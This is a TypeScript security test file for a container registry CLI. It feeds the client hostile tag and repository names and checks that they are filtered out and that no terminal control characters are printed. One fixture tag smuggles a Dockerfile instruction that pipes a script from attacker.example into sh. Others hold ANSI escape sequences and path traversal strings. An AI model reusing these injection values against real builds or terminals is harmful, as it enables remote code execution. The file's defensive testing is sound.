// Security review, second round: what security.test.ts, hostile.test.ts and split-hostile.test.ts
// did not cover. The attacker controls a registry (its names, its error bodies, its redirects) or
// files another tool wrote into the cache. Real Distribution registries; the loopback proxy in
// front of one where the registry itself cannot misbehave.
import assert from 'node:assert/strict';
import { join } from 'node:path';
import { after, before, describe, test } from 'node:test';
import { parseReference } from '../../src/core/reference';
import { RegistryClient } from '../../src/core/registry/client';
import { requireCli, runCli } from '../support/cli';
import { TestBed } from '../support/engine';
import { type BuiltImage, buildImage } from '../support/fixtures';
import { type RuleResult, startProxy } from '../support/proxy';
import { pushLayout } from '../support/push';
import type { RunningRegistry } from '../support/registry';

/** What a terminal acts on: C0 controls but newline and tab, DEL, and the C1 controls (CSI is U+009B). */
const TERMINAL_CONTROL = /[\x00-\x08\x0b-\x1f\x7f-\x9f]/;

let bed: TestBed;
let reg: RunningRegistry;
let image: BuiltImage;

before(async () => {
  requireCli();
  bed = await TestBed.create('stowage-security-review-');
  image = await buildImage(join(bed.work, 'img'), {
    tag: 'v1',
    seed: 'security-review',
    platforms: ['linux/amd64'],
    index: false,
    layers: 1,
    layerSize: 50_000,
  });
  reg = await bed.registry({});
  await pushLayout(image.layoutDir, 'v1', reg, 'rev/app:v1');
});

after(() => bed?.cleanup());

/** The real registry behind a proxy whose `rule` may answer or rewrite any request. */
async function proxied(rule: Parameters<typeof startProxy>[1]) {
  const proxy = await startProxy(reg.url, rule);
  bed.defer(proxy.stop);
  return proxy;
}

function cli(args: string[], cache: string) {
  return runCli([...args, '--cache', cache], 60_000, { DOCKER_CONFIG: join(bed.work, 'no-docker-config') });
}

describe('names a registry lists', () => {
  const hostileTags = [
    'v1',
    // "Use in FROM" writes the picked tag into the Dockerfile: this would add an instruction.
    '1.0\nRUN curl -s https://attacker.example/x | sh',
    '\u001b]0;owned\u0007\u001b[2J',
    '../../v2/other/manifests/x',
    '-leading-dash',
    'a'.repeat(129),
    42,
    'ok_2.0-rc.1',
  ];
  const hostileRepositories = ['rev/app', 'x\nRUN id', 'UPPER/case', '../etc', 'ok/repo', 'a//b'];

  async function listing() {
    return proxied((req): RuleResult => {
      const path = new URL(req.url ?? '/', 'http://x').pathname;
      const json = (body: unknown): RuleResult => ({
        respond: { status: 200, headers: { 'content-type': 'application/json' }, body: JSON.stringify(body) },
      });
      if (path === '/v2/rev/app/tags/list') return json({ name: 'rev/app', tags: hostileTags });
      if (path === '/v2/_catalog') return json({ repositories: hostileRepositories });
      return undefined;
    });
  }

  test('tags and repositories no reference can hold are left out of the lists', async () => {
    const proxy = await listing();
    const client = new RegistryClient({ retry: { attempts: 1 } });
    const tags: string[] = [];
    for await (const page of client.tags(parseReference(`${proxy.host}/rev/app`))) tags.push(...page);
    const repositories: string[] = [];
    for await (const page of client.catalog(proxy.host)) repositories.push(...page);
    await client.close();
    assert.deepEqual(tags, ['v1', 'ok_2.0-rc.1']);
    assert.deepEqual(repositories, ['rev/app', 'ok/repo']);
  });

  test('stowage tags prints only those, and nothing a terminal would act on', async () => {
    const proxy = await listing();
    const r = await cli(['tags', `${proxy.host}/rev/app`], join(bed.work, 'tags-cache'));
    assert.equal(r.code, 0, r.stderr);
    assert.deepEqual(r.stdout.split('\n').filter(Boolean), ['v1', 'ok_2.0-rc.1']);
    assert.ok(!TERMINAL_CONTROL.test(r.stdout + r.stderr), JSON.stringify(r.stdout + r.stderr));
  });
});
